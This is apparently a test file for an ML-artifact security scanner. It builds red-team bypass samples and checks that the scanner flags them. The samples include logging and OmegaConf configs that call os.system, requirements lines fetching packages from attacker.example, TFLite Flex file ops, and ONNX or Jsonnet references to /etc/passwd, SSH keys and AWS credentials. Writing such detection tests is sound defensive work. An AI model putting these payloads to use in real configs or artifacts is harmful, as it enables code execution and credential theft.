"""Bypasses found by the session-7 red team (the "still open" list of session 6, attacked, then closed).
Each sample is built here from text or bytes; nothing is loaded. Every malicious sample scanned ``safe`` before.

- ``logging.config.fileConfig`` INI files: ``class``, ``args`` and ``kwargs`` of a handler are ``eval``'d (checked
  here: an ``args`` calling ``print`` ran under Python 3.11); ``dictConfig`` imports and calls ``()`` factories
  (checked: ``{"()": "os.system", "command": "echo ..."}`` ran). Both were "text" (safe).
- OmegaConf resolver calls in a ``.json`` or a file of any other name (``OmegaConf.load`` reads any name).
- Environment files (``requirements.txt``, ``conda.yaml``, ``python_env.yaml``) an MLflow environment restore
  installs: VCS/URL requirements, other package indexes, paths outside the folder, user conda channels.
- TensorFlow Lite models: ``Flex`` operator codes (``FlexWriteFile``) run TensorFlow kernels; not parsed before.
- Hydra ``hydra.searchpath`` entries outside the folder; ONNX text formats (``.textproto``, ``.onnxtxt``,
  ``.json``) with external data outside the folder or custom domains; Jsonnet imports outside the folder;
  Keras ``keras.src.utils.file_utils`` functions (``rmtree``, ``extract_archive``) named by a config.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
from pathlib import Path

import pytest
import yaml
from scan_helpers import scan_named

from mlsecure.artifacts.formats import ArtifactFormat
from mlsecure.artifacts.scan import Verdict, scan_file
from mlsecure.findings import Severity

_scan = scan_named
CMD = "__import__('os').system('echo pwned')"


# --- logging.config ------------------------------------------------------------------------------------------

def _file_config(handler: str, formatter: str = "", defaults: str = "") -> str:
    return (f"[DEFAULT]\n{defaults}\n[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=f\n"
            "[logger_root]\nlevel=INFO\nhandlers=h\n"
            f"[handler_h]\n{handler}\n[formatter_f]\nformat=%%(message)s\n{formatter}\n")


FILE_CONFIGS = {
    "args-call": (_file_config(f"class=StreamHandler\nargs=({CMD},)"), Severity.CRITICAL),
    "class-os-system": (_file_config("class=os.system\nargs=('echo pwned',)"), Severity.CRITICAL),
    "class-logging-os": (_file_config("class=logging.os.system\nargs=('echo pwned',)"), Severity.CRITICAL),
    "class-interpolated": (_file_config("class=%(c)s\nargs=('echo pwned',)", defaults="c = os.system"),
                           Severity.CRITICAL),
    "kwargs-call": (_file_config(f"class=StreamHandler\nkwargs={{'stream': {CMD}}}"), Severity.CRITICAL),
    "upper-case-key": (_file_config(f"CLASS=StreamHandler\nARGS=({CMD},)"), Severity.CRITICAL),
    "formatter-class": (_file_config("class=StreamHandler\nargs=(sys.stderr,)", "class=subprocess.Popen"),
                        Severity.CRITICAL),
    "formatter-defaults": (_file_config("class=StreamHandler\nargs=(sys.stderr,)", f"defaults={{'a': {CMD}}}"),
                           Severity.CRITICAL),
    "default-args": (_file_config("class=StreamHandler", defaults=f"args=({CMD},)"), Severity.CRITICAL),
    "config-listen": (_file_config("class=config.listen\nargs=(9030,)"), Severity.CRITICAL),  # a config server
    "class-subscript": (_file_config("class=sys.modules['os'].system\nargs=('echo pwned',)"), Severity.HIGH),
    "class-dunder": (_file_config("class=handlers.__builtins__\nargs=()"), Severity.HIGH),
    "unlisted-handler-class": (_file_config("class=mypackage.handlers.Custom\nargs=()"), Severity.MEDIUM),
}


@pytest.mark.parametrize("name", ["logging.ini", "logging.conf", "log.cfg"])
@pytest.mark.parametrize("case", sorted(FILE_CONFIGS))
def test_logging_file_config_evaluates_code(tmp_path: Path, case: str, name: str) -> None:
    text, severity = FILE_CONFIGS[case]
    verdict, top, titles = _scan(tmp_path, name, text)
    assert top >= severity and verdict is not Verdict.SAFE, titles
    if severity is Severity.MEDIUM:
        assert top is Severity.MEDIUM, titles


DICT_CONFIGS = {
    "factory-os-system": ({"handlers": {"h": {"()": "os.system", "command": "echo pwned"}}}, Severity.CRITICAL),
    "factory-popen": ({"formatters": {"f": {"()": "subprocess.Popen", "args": "id"}}}, Severity.CRITICAL),
    "handler-class": ({"handlers": {"h": {"class": "os.system"}}}, Severity.CRITICAL),
    "filter-factory-ext": ({"filters": {"f": {"()": "ext://builtins.exec", "source": "x"}}}, Severity.CRITICAL),
    "ext-value": ({"handlers": {"h": {"class": "logging.StreamHandler", "stream": "ext://os.system"}}},
                  Severity.CRITICAL),
    "queue-handler-3.12": ({"handlers": {"q": {"class": "logging.handlers.QueueHandler", "queue": "os.getpid",
                                               "listener": "subprocess.Popen"}}}, Severity.CRITICAL),
    "unknown-factory": ({"formatters": {"f": {"()": "my_project.logs.make_formatter"}}}, Severity.MEDIUM),
}


@pytest.mark.parametrize("container", ["logging.json", "logging.yaml", "log_config.txt"])
@pytest.mark.parametrize("case", sorted(DICT_CONFIGS))
def test_logging_dict_config_factories(tmp_path: Path, case: str, container: str) -> None:
    body, severity = DICT_CONFIGS[case]
    document = {"version": 1, **body}
    text = json.dumps(document) if container.endswith(".json") else yaml.safe_dump(document)
    verdict, top, titles = _scan(tmp_path, container, text)
    assert top is severity and verdict is not Verdict.SAFE, titles


BENIGN_FILE_CONFIG = """[loggers]
keys=root,app
[handlers]
keys=console,file,rot
[formatters]
keys=plain
[logger_root]
level=WARNING
handlers=console
[logger_app]
level=DEBUG
handlers=file,rot
qualname=app
[handler_console]
class=StreamHandler
level=INFO
formatter=plain
args=(sys.stderr,)
[handler_file]
class=FileHandler
args=('%(logfile)s', 'a')
[handler_rot]
class=handlers.RotatingFileHandler
args=('app.log', 'a', 50*1024*1024, 3)
[handler_timed]
class=logging.handlers.TimedRotatingFileHandler
args=('./log/app.log', 'midnight', 1, 30)
kwargs={'encoding': 'utf-8'}
[formatter_plain]
format=%(asctime)s %(levelname)s %(message)s
datefmt=
class=logging.Formatter
[DEFAULT]
logfile=app.log
"""
BENIGN_DICT_CONFIG = {"version": 1, "disable_existing_loggers": False,
                      "formatters": {"plain": {"format": "%(message)s"},
                                     "uvicorn": {"()": "uvicorn.logging.DefaultFormatter", "fmt": "%(message)s"},
                                     "custom": {"()": "logging.Formatter", "fmt": "%(message)s"}},
                      "filters": {"f": {"name": "app"}},
                      "handlers": {"console": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout",
                                               "formatter": "plain", "filters": ["f"]},
                                   "file": {"class": "logging.handlers.RotatingFileHandler", "filename": "a.log",
                                            "maxBytes": 1000, "backupCount": 3},
                                   "queued": {"class": "logging.handlers.QueueHandler", "queue": "queue.Queue",
                                              "listener": "logging.handlers.QueueListener",
                                              "handlers": ["console"]}},
                      "root": {"level": "INFO", "handlers": ["console", "file"]}}


@pytest.mark.parametrize(("name", "text"), [
    ("logging.ini", BENIGN_FILE_CONFIG), ("logging.json", json.dumps(BENIGN_DICT_CONFIG)),
    ("logging.yaml", json.dumps(BENIGN_DICT_CONFIG)),
    # as YAML: main flagged ``class: logging.StreamHandler`` critical (read as Hydra 1.0's ``class`` key)
    ("logging_config.yaml", yaml.safe_dump(BENIGN_DICT_CONFIG)),
    ("setup.cfg", "[metadata]\nname = x\nversion = 1.0\n[options]\npackages = find:\nclass = x\n"),
    ("tox.ini", "[tox]\nenvlist = py311\n[testenv]\ncommands = pytest {posargs}\n"),
    ("calls.json", json.dumps({"api": {"()": "not a dictConfig: no version key"}})),
])
def test_benign_logging_and_ini_configs_stay_safe(tmp_path: Path, name: str, text: str) -> None:
    verdict, top, titles = _scan(tmp_path, name, text)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


# --- OmegaConf interpolations in files of any name ---------------------------------------------------------------

EVAL = "${eval:'__import__(\"os\").system(\"id\")'}"


@pytest.mark.parametrize(("name", "text", "severity"), [
    ("params.json", json.dumps({"optim": {"lr": EVAL}}), Severity.HIGH),
    ("hparams.json", json.dumps({"lr": "${my.resolver:1}"}), Severity.MEDIUM),
    ("config.cfg", f"model:\n  lr: {EVAL}\n", Severity.HIGH),
    ("model.conf", "trainer:\n  steps: '${ python : 2 * 3 }'\n", Severity.MEDIUM),
    ("settings", f"a: 1\nb: {EVAL}\n", Severity.HIGH),
    ("run.txt", "x: ${${name}:1}\nname: eval\n", Severity.MEDIUM),
])
def test_omegaconf_resolver_calls_in_any_file(tmp_path: Path, name: str, text: str, severity: Severity) -> None:
    verdict, top, titles = _scan(tmp_path, name, text)
    assert top is severity and verdict is not Verdict.SAFE, titles


@pytest.mark.parametrize(("name", "text"), [
    ("docker-compose.conf", "services:\n  db:\n    image: postgres\n    environment:\n"
                            "      POSTGRES_HOST: ${DB_HOST:-localhost}\n      PORT: ${PORT:=5432}\n"),
    ("run.sh", "#!/bin/sh\necho ${HOME:-/root} ${USER}\n"),
    ("paths.json", json.dumps({"data": "${oc.env:DATA_DIR}/train", "out": "${model.name}"})),
])
def test_benign_interpolations_stay_below_medium(tmp_path: Path, name: str, text: str) -> None:
    verdict, top, titles = _scan(tmp_path, name, text)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


# --- environment files an environment restore installs ----------------------------------------------------------

@pytest.mark.parametrize("line", [
    "git+https://github.com/attacker/pkg.git@main#egg=pkg", "pkg @ git+https://github.com/attacker/pkg.git",
    "pkg @ https://attacker.example/pkg-1.0.tar.gz", "https://attacker.example/pkg-1.0-py3-none-any.whl",
    "--index-url https://attacker.example/simple", "--extra-index-url=https://attacker.example/simple",
    "-ihttps://attacker.example/simple", "-f https://attacker.example/wheels", "--trusted-host attacker.example",
    "../../outside/pkg", "/opt/shared/pkg", "-e git+https://github.com/attacker/pkg.git#egg=pkg",
    "-r ../../other/requirements.txt", "-c /etc/pip/constraints.txt", "file:///tmp/pkg",
    "--index-url \\\n    https://attacker.example/simple",
    # pip's requirement-file parser is optparse: unambiguous prefixes of long options count (checked with pip)
    "--extra-ind https://attacker.example/simple", "--fin https://attacker.example/wheels", "--trusted h.example",
    "--requir ../../other/requirements.txt", "--edit git+https://github.com/attacker/pkg.git#egg=pkg",
    "--index-url http://download.pytorch.org/whl/cu118", "--extra-index-url https://download.pytorch.org.evil.example/",
    "--trusted-host download.pytorch.org", "-i https://pypi.nvidia.com.attacker.example/simple",
    "--extra-index-url https://storage.googleapis.com/attacker-bucket/",
])
@pytest.mark.parametrize("name", ["requirements.txt", "requirements-serve.txt", "dev_requirements.txt"])
def test_requirements_installing_unscanned_code(tmp_path: Path, line: str, name: str) -> None:
    verdict, top, titles = _scan(tmp_path, name, f"mlflow==2.9.2\n{line}\ncloudpickle==3.0.0\n")
    assert top is Severity.HIGH and verdict is Verdict.MALICIOUS, titles


@pytest.mark.parametrize(("name", "text", "severity"), [
    ("conda.yaml", "channels:\n- https://attacker.example/conda\ndependencies:\n- python=3.11\n", Severity.HIGH),
    ("conda.yaml", "channels:\n- attacker-user\ndependencies:\n- python=3.11\n", Severity.MEDIUM),
    ("conda.yaml", "channels:\n- conda-forge\ndependencies:\n- attacker-user::numpy\n", Severity.MEDIUM),
    ("conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip:\n"
                   "  - git+https://github.com/attacker/pkg.git\n", Severity.HIGH),
    ("environment.yml", "dependencies:\n- https://attacker.example/pkg-1.0-0.tar.bz2\n", Severity.HIGH),
    ("python_env.yaml", "python: 3.11.7\nbuild_dependencies:\n- pip\ndependencies:\n"
                        "- --extra-index-url https://attacker.example/simple\n- -r requirements.txt\n", Severity.HIGH),
    ("requirements.txt", "mlflow==2.9.2\n./vendored_pkg\n", Severity.MEDIUM),
    ("requirements.txt", "mlflow==2.9.2\n--find-links ./wheels\nmypkg==1.0\n", Severity.MEDIUM),
    ("requirements.txt", "mlflow==2.9.2\n--find-links ../../wheels\nmypkg==1.0\n", Severity.HIGH),
])
def test_conda_and_python_env_files(tmp_path: Path, name: str, text: str, severity: Severity) -> None:
    verdict, top, titles = _scan(tmp_path, name, text)
    assert top is severity and verdict is not Verdict.SAFE, titles


@pytest.mark.parametrize(("name", "text"), [
    ("requirements.txt", "# generated by mlflow\nmlflow==2.9.2\ncloudpickle==3.0.0\nnumpy>=1.24,<2 ; "
                         "python_version >= '3.9'\ntorch==2.1.0  # cpu\nscikit-learn[alldeps]~=1.3\n--prefer-binary\n"
                         "pandas==2.1.4 --hash=sha256:abcdef\n-r requirements-extra.txt\n"),
    ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch==2.1.0+cu118\n"
                         "--extra-index-url https://pypi.nvidia.com\n"
                         "-f https://data.pyg.org/whl/torch-2.1.0+cu118.html\ntorch-scatter\n"
                         "jax[cuda12] -f https://storage.googleapis.com/jax-releases/jax_cuda_releases.html\n"
                         "torchvision @ https://download.pytorch.org/whl/cu118/torchvision-0.16.0%2Bcu118-cp311-cp311-"
                         "linux_x86_64.whl\n"),
    ("conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=23.3.1\n- pip:\n"
                   "  - mlflow==2.9.2\n  - cloudpickle==3.0.0\nname: mlflow-env\n"),
    ("python_env.yaml", "python: 3.11.7\nbuild_dependencies:\n- pip==23.3.1\n- setuptools==68.2.2\n- wheel==0.41.2\n"
                        "dependencies:\n- -r requirements.txt\n"),
])
def test_benign_environment_files_stay_safe(tmp_path: Path, name: str, text: str) -> None:
    verdict, top, titles = _scan(tmp_path, name, text)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


# --- TensorFlow Lite operator codes ---------------------------------------------------------------------------

Node = tuple[str, object]


def _flatbuffer(root: Node, identifier: bytes) -> bytes:
    """A minimal flatbuffer writer: each table, vector or string is laid out after its parent and the parent's
    reference patched to point forward (as flatbuffers require). Nodes: ``("table", {field: value})`` with values
    ``("u8"|"u32"|"i32"|"u64", n)`` or a node, ``("tables", [nodes])``, ``("bytes", b"...")``, ``("string", "...")``."""
    buf = bytearray(struct.pack("<I", 0) + identifier)

    def align(n: int = 4) -> None:
        buf.extend(b"\0" * (-len(buf) % n))

    def write(node: Node) -> int:
        kind, value = node
        align(8)
        if kind in ("bytes", "string"):
            data = value.encode() if isinstance(value, str) else value
            assert isinstance(data, bytes)
            at = len(buf)
            buf.extend(struct.pack("<I", len(data)) + data + (b"\0" if kind == "string" else b""))
            return at
        if kind == "tables":
            assert isinstance(value, list)
            at = len(buf)
            buf.extend(struct.pack("<I", len(value)) + b"\0\0\0\0" * len(value))
            for i, child in enumerate(value):
                slot = at + 4 + 4 * i
                struct.pack_into("<I", buf, slot, write(child) - slot)
            return at
        assert isinstance(value, dict)
        fields = max(value, default=-1) + 1
        layout: dict[int, int] = {}
        size = 4
        for field, item in sorted(value.items()):
            layout[field] = size
            size += 8 if item[0] == "u64" else 4
        vtable = len(buf)
        buf.extend(struct.pack(f"<HH{fields}H", 4 + 2 * fields, size, *(layout.get(f, 0) for f in range(fields))))
        align(4)
        table = len(buf)
        buf.extend(struct.pack("<i", table - vtable) + b"\0" * (size - 4))
        for field, item in sorted(value.items()):
            at = table + layout[field]
            if item[0] in ("u8", "u32", "i32", "u64"):
                struct.pack_into({"u8": "<B", "u32": "<I", "i32": "<i", "u64": "<Q"}[item[0]], buf, at, item[1])
            else:
                struct.pack_into("<I", buf, at, write(item) - at)
        return table

    struct.pack_into("<I", buf, 0, write(root))
    return bytes(buf)


def _tflite(codes: list[tuple[int, str | None]], *, identifier: bool = True,
            operators: list[tuple[int, bytes]] | None = None) -> bytes:
    """A TFLite model: Model { operator_codes (1), subgraphs (2) { operators (3) { opcode_index (0),
    custom_options (5) } } }; OperatorCode { deprecated_builtin_code (0), custom_code (1), builtin_code (3) }
    (field numbers as the ``tflite`` package's generated schema code reads them)."""
    code_tables: list[Node] = []
    for builtin, custom in codes:
        fields: dict[int, object] = {0: ("u8", min(builtin, 127)), 3: ("i32", builtin)}
        if custom is not None:
            fields[1] = ("string", custom)
        code_tables.append(("table", fields))
    ops: list[Node] = [("table", {0: ("u32", index), 5: ("bytes", options)}) for index, options in operators or []]
    model: Node = ("table", {0: ("u32", 3), 1: ("tables", code_tables),
                             2: ("tables", [("table", {3: ("tables", ops)})])})
    return _flatbuffer(model, b"TFL3" if identifier else b"\0\0\0\0")


ADD, CONV, CUSTOM = 0, 3, 32


@pytest.mark.parametrize(("codes", "severity"), [
    ([(ADD, None), (CUSTOM, "FlexWriteFile")], Severity.HIGH),
    ([(CUSTOM, "FlexReadFile"), (CONV, None)], Severity.HIGH),
    ([(CUSTOM, "FlexMatchingFiles")], Severity.HIGH),
    ([(CUSTOM, "FlexEagerPyFunc")], Severity.CRITICAL),
    ([(CUSTOM, "FlexTFRecordDataset"), (CUSTOM, "MyOp")], Severity.MEDIUM),
])
@pytest.mark.parametrize("identifier", [True, False])
def test_tflite_flex_operators(tmp_path: Path, codes: list[tuple[int, str | None]], severity: Severity,
                               identifier: bool) -> None:
    verdict, top, titles = _scan(tmp_path, "model.tflite", _tflite(codes, identifier=identifier))
    assert top is severity and verdict is not Verdict.SAFE, titles


def test_tflite_is_detected_by_its_identifier_whatever_the_name(tmp_path: Path) -> None:
    path = tmp_path / "weights.bin"
    path.write_bytes(_tflite([(CUSTOM, "FlexWriteFile")]))
    result = scan_file(path)
    assert result.format is ArtifactFormat.TFLITE and result.max_severity is Severity.HIGH


def test_tflite_truncated_operator_table_is_malformed(tmp_path: Path) -> None:
    data = _tflite([(ADD, None), (CUSTOM, "FlexWriteFile")])
    _verdict, top, titles = _scan(tmp_path, "model.tflite", data[:40])
    assert top is Severity.HIGH and any("TFLite" in t for t in titles), titles


@pytest.mark.parametrize("codes", [[(ADD, None), (CONV, None)], [(CUSTOM, "TFLite_Detection_PostProcess")],
                                   [(CUSTOM, "FlexAddV2"), (CUSTOM, "FlexSoftmax")]])
def test_tflite_builtin_and_harmless_custom_ops_stay_safe(tmp_path: Path, codes: list[tuple[int, str | None]]) -> None:
    verdict, top, titles = _scan(tmp_path, "model.tflite", _tflite(codes))
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


# --- Hydra search path, ONNX text formats, Jsonnet, Keras file utilities, confection ------------------------

@pytest.mark.parametrize(("entry", "severity"), [
    ("file:///etc/attacker/configs", Severity.HIGH), ("file://../../shared/configs", Severity.HIGH),
    ("s3://attacker-bucket/configs", Severity.MEDIUM)])
@pytest.mark.parametrize("name", ["config.yaml", "config.json"])
def test_hydra_searchpath_outside_the_folder(tmp_path: Path, entry: str, severity: Severity, name: str) -> None:
    document = {"defaults": ["_self_"], "hydra": {"searchpath": ["pkg://my_app.conf", entry]}, "lr": 0.1}
    _verdict, top, titles = _scan(tmp_path, name, json.dumps(document))
    assert top is severity, titles


def test_hydra_searchpath_inside_stays_safe(tmp_path: Path) -> None:
    # a ``pkg://`` entry is medium since session 9 (Hydra imports the package): test_bypass_classes_s9.py
    text = "defaults:\n- _self_\nhydra:\n  searchpath:\n  - file://conf\nlr: 0.1\n"
    verdict, top, titles = _scan(tmp_path, "config.yaml", text)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


TEXTPROTO = """ir_version: 8
opset_import {{ domain: "" version: 17 }}
{opset}graph {{
  node {{ input: "w" output: "y" op_type: "{op}" domain: "{domain}" }}
  name: "g"
  initializer {{ dims: 4 data_type: 1 name: "w" data_location: EXTERNAL
    external_data {{ key: "location" value: "{location}" }} }}
}}
"""
ONNXTXT = """<
   ir_version: 8,
   opset_import: ["" : 17{opset}]
>
g () => (float[4] y)
   <float[4] w = ["location": "{location}"]>
{{
   y = {op} (w)
}}
"""


def _onnx_json(location: str, domain: str) -> str:
    return json.dumps({"irVersion": "8", "opsetImport": [{"version": "17"}], "graph": {
        "node": [{"input": ["w"], "output": ["y"], "opType": "Identity", "domain": domain}],
        "initializer": [{"dims": ["4"], "dataType": 1, "name": "w", "dataLocation": "EXTERNAL",
                         "externalData": [{"value": location, "key": "location"}]}]}})


@pytest.mark.parametrize("location", ["../outside/secret.bin", "/etc/passwd", "..\\..\\secret.bin"])
@pytest.mark.parametrize("name", ["model.textproto", "model.onnxtxt", "model.json"])
def test_onnx_text_formats_external_data_outside(tmp_path: Path, location: str, name: str) -> None:
    text = (_onnx_json(location.replace("\\", "\\\\"), "") if name.endswith(".json") else
            (TEXTPROTO if name.endswith(".textproto") else ONNXTXT).format(
                opset="", op="Identity", domain="", location=location.replace("\\", "\\\\")))
    verdict, top, titles = _scan(tmp_path, name, text)
    assert top is Severity.HIGH and verdict is Verdict.MALICIOUS, titles


@pytest.mark.parametrize("name", ["model.textproto", "model.onnxtxt", "model.json"])
def test_onnx_text_formats_custom_domain_and_benign(tmp_path: Path, name: str) -> None:
    if name.endswith(".json"):
        custom, benign = _onnx_json("w.bin", "evil.ops"), _onnx_json("weights/w.bin", "")
    else:
        template = TEXTPROTO if name.endswith(".textproto") else ONNXTXT
        opset = 'opset_import { domain: "evil.ops" version: 1 }\n' if name.endswith(".textproto") else \
            ', "evil.ops" : 1'
        custom = template.format(opset=opset, op="evil.ops.Run" if "txt" in name else "Run",
                                 domain="evil.ops", location="w.bin")
        benign = template.format(opset="", op="Identity", domain="", location="weights/w.bin")
    assert _scan(tmp_path, name, custom)[1] is Severity.MEDIUM
    verdict, top, titles = _scan(tmp_path, name, benign)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


@pytest.mark.parametrize(("text", "severity"), [
    ('local secrets = import "../../secrets.json";\n{ model: secrets }', Severity.HIGH),
    ("{ key: importstr '/home/user/.ssh/id_rsa' }", Severity.HIGH),
    ('{ w: importbin "/etc/shadow" }', Severity.HIGH),
    ('{ model: std.native("run")("id") }', Severity.MEDIUM),
])
def test_jsonnet_imports_outside_the_folder(tmp_path: Path, text: str, severity: Severity) -> None:
    assert _scan(tmp_path, "config.jsonnet", text)[1] is severity


def test_jsonnet_local_imports_stay_safe(tmp_path: Path) -> None:
    text = 'local base = import "base.libsonnet";\nbase + { lr: std.extVar("LR"), model: import "models/a.jsonnet" }'
    verdict, top, titles = _scan(tmp_path, "config.jsonnet", text)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


@pytest.mark.parametrize(("function", "severity"), [
    ("rmtree", Severity.HIGH), ("extract_archive", Severity.HIGH), ("extract_open_archive", Severity.HIGH),
    ("makedirs", Severity.MEDIUM)])
def test_keras_file_utils_functions(tmp_path: Path, function: str, severity: Severity) -> None:
    layer = {"module": "keras.layers", "class_name": "Activation", "registered_name": None,
             "config": {"name": "a", "activation": {"module": "keras.src.utils.file_utils", "class_name": "function",
                                                    "config": function, "registered_name": "function"}}}
    model = {"module": "keras", "class_name": "Sequential", "registered_name": None,
             "config": {"name": "s", "layers": [layer]}}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.9.0"}))
        archive.writestr("config.json", json.dumps(model))
    assert _scan(tmp_path, "model.keras", buf.getvalue())[1] is severity


SPACY = """[paths]
train = null
[nlp]
lang = "en"
pipeline = ["tok2vec","ner"]
[components.tok2vec.model]
@architectures = "spacy.Tok2Vec.v2"
[components.tok2vec.model.embed]
@architectures = "spacy.MultiHashEmbed.v2"
width = ${components.tok2vec.model.encode.width}
[training.optimizer]
@optimizers = "Adam.v1"
[training.logger]
@loggers = "spacy.ConsoleLogger.v1"
"""


def test_confection_registry_references(tmp_path: Path) -> None:
    verdict, top, titles = _scan(tmp_path, "config.cfg", SPACY)
    assert verdict is Verdict.SAFE and top <= Severity.INFO, titles
    custom = SPACY + '[corpora.train]\n@readers = "attacker_pkg.evil_reader.v1"\n'
    verdict, top, titles = _scan(tmp_path, "config.cfg", custom)
    assert top is Severity.LOW and any("attacker_pkg" in t for t in titles), titles


# --- requirements under another name (TorchServe's ``requirementsFile``, ``-r deps.txt``) --------------------

def _mar(requirements_name: str, requirements: str) -> bytes:
    manifest = {"runtime": "python", "model": {"modelName": "m", "serializedFile": "model.pt", "handler":
                "image_classifier", "requirementsFile": requirements_name}, "archiverVersion": "0.9.0"}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        archive.writestr(requirements_name, requirements)
    return buf.getvalue()


@pytest.mark.parametrize("name", ["deps.txt", "pip-deps", "extra.in"])
def test_requirements_under_another_name(tmp_path: Path, name: str) -> None:
    for text in ("torch==2.1.0\nPillow>=10\n--extra-index-url https://attacker.example/simple\n",
                 "torch==2.1.0\n--extra-ind https://attacker.example/simple\n", "pkg @ https://attacker.example/p.zip\n",
                 "https://attacker.example/pkg-1.0-py3-none-any.whl\n"):
        assert _scan(tmp_path, name, text)[1] is Severity.HIGH, text
    verdict, top, titles = _scan(tmp_path, "model.mar", _mar(name, "torchvision==0.16\ngit+https://x.example/p.git\n"))
    assert top is Severity.HIGH and verdict is Verdict.MALICIOUS, titles


@pytest.mark.parametrize("text", ["cat\ndog\nbird\n", "torch==2.1.0\nPillow>=10\n", "see https://example.com\n",
                                  "label one\nlabel two\n", "https://data.example/train.tar.gz\nhttps://data.example/"
                                  "val.zip\n", "-1.5\n2.0\n-3\n"])
def test_label_and_pinned_lists_under_other_names_stay_safe(tmp_path: Path, text: str) -> None:
    verdict, top, titles = _scan(tmp_path, "labels.txt", text)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


def test_jsonnet_import_in_a_json_config(tmp_path: Path) -> None:
    text = '{"model": import "../../../home/user/.aws/credentials.json", "code": "import \'os\'"}'
    assert _scan(tmp_path, "config.json", text)[1] is Severity.HIGH
    benign = '{"model": {"type": "basic"}, "doc": "from x import \'y\'"}'
    verdict, top, titles = _scan(tmp_path, "config.json", benign)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


def test_tflite_without_identifier_under_another_name(tmp_path: Path) -> None:
    """The interpreter does not insist on the TFL3 identifier: unrecognised data listing Flex file ops is judged."""
    result = scan_file(_write(tmp_path, "weights.bin", _tflite([(ADD, None), (CUSTOM, "FlexWriteFile")],
                                                                 identifier=False)))
    assert result.format is ArtifactFormat.TFLITE and result.max_severity is Severity.HIGH
    benign = scan_file(_write(tmp_path, "noise.bin", bytes(range(256)) * 64))
    assert benign.verdict is Verdict.SAFE


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("text", [
    'ir_version: 8\ngraph { initializer { name: "w" external_data { value: ".." "/secret.bin" key: \'location\' } } }',
    "ir_version: 8\ngraph { initializer { external_data < key: \"loc\" 'ation' value: '\\x2e./s.bin' > } }",
    'ir_version: 8 # "x"\ngraph { initializer { external_data: { key: "location" value: "/etc/passwd" } } }',
])
def test_onnx_textproto_strings_concatenated_reordered_escaped(tmp_path: Path, text: str) -> None:
    assert _scan(tmp_path, "model.textproto", text)[1] is Severity.HIGH


@pytest.mark.parametrize("version", ["1.0", "true", "1e0"])
def test_dict_config_version_spelled_otherwise(tmp_path: Path, version: str) -> None:
    text = f'{{"version": {version}, "handlers": {{"h": {{"class": "os.system", "command": "id"}}}}}}'
    assert _scan(tmp_path, "logging.json", text)[1] is Severity.CRITICAL


@pytest.mark.parametrize("prefix", ["# logging\n; generated\n\n", "\n  \n", "\r\n# c\r\n"])
def test_file_config_after_comment_lines(tmp_path: Path, prefix: str) -> None:
    text, severity = FILE_CONFIGS["class-os-system"]
    assert _scan(tmp_path, "logging.ini", prefix + text)[1] is severity


@pytest.mark.parametrize(("name", "text"), [
    ("env.yaml", "python: 3.11.7\ndependencies:\n- --index-url https://attacker.example/simple\n- mlflow\n"),
    ("my_env.yml", "channels:\n- conda-forge\ndependencies:\n- pip:\n  - git+https://attacker.example/p.git\n"),
])
def test_environment_files_under_the_name_mlmodel_gives_them(tmp_path: Path, name: str, text: str) -> None:
    """MLmodel's ``env: {virtualenv: env.yaml}`` may name its environment file anything."""
    assert _scan(tmp_path, name, text)[1] is Severity.HIGH
    benign = "python: 3.11.7\nbuild_dependencies:\n- pip\ndependencies:\n- -r requirements.txt\n"
    verdict, top, titles = _scan(tmp_path, name, benign)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


def _flex_options(op: str, node_op: str | None = None) -> bytes:
    """Custom options as the Flex delegate reads them (tensorflow/lite/delegates/flex/kernel.cc): a flexbuffer vector
    [op name, NodeDef bytes]; the eager op is the first string. Strings: length byte, bytes, NUL; NodeDef field 1
    name, field 2 op. The trailing vector/root bytes are not read by the scanner."""
    node = node_op or op
    node_def = b"\x0a\x01n" + b"\x12" + bytes([len(node)]) + node.encode()
    return bytes([len(op)]) + op.encode() + b"\x00" + bytes([len(node_def)]) + node_def + b"\x00\x06\x2c\x02\x28\x01"


@pytest.mark.parametrize("identifier", [True, False])
def test_tflite_flex_node_def_decides_the_kernel(tmp_path: Path, identifier: bool) -> None:
    """A harmless-looking ``FlexAddV2`` code whose custom options name ``WriteFile`` (as the eager op name or the
    NodeDef's op): the delegate builds the op its options name."""
    for options in (_flex_options("WriteFile"), _flex_options("WriteFile", "AddV2"),
                    _flex_options("AddV2", "ReadFile")):
        data = _tflite([(ADD, None), (CUSTOM, "FlexAddV2")], identifier=identifier, operators=[(0, b""), (1, options)])
        verdict, top, titles = _scan(tmp_path, "model.tflite" if identifier else "weights.bin", data)
        assert top is Severity.HIGH and any("custom options" in t for t in titles), titles
    benign = _tflite([(ADD, None), (CUSTOM, "FlexAddV2")], operators=[(0, b""), (1, _flex_options("AddV2"))])
    verdict, top, titles = _scan(tmp_path, "model.tflite", benign)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


@pytest.mark.parametrize(("text", "severity"), [
    ('{"model": {"_target_": "os.system", "command": "id",}}\n', Severity.CRITICAL),  # trailing comma
    ("# hydra config\n_target_: os.system\ncommand: id\n", Severity.CRITICAL),  # a YAML block mapping
    ("{\"lr\": \"${eval:'__import__(\\\"os\\\").system(\\\"id\\\")'}\", # c\n}\n", Severity.HIGH),  # a comment
])
def test_json_that_only_yaml_reads(tmp_path: Path, text: str, severity: Severity) -> None:
